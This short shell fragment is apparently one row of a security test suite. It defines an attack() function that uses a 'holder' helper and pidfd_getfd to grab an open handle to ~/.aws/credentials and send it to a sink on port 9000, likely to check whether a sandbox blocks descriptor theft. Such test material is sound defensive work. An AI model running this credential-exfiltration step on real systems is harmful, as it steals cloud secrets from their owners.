# SPDX-License-Identifier: Apache-2.0
TITLE="pidfd_getfd of an opened secret"
ROW="R17"
attack() { "$PROVOKE/holder" getfd "$HOME/.aws/credentials" "$SINK4" 9000; }
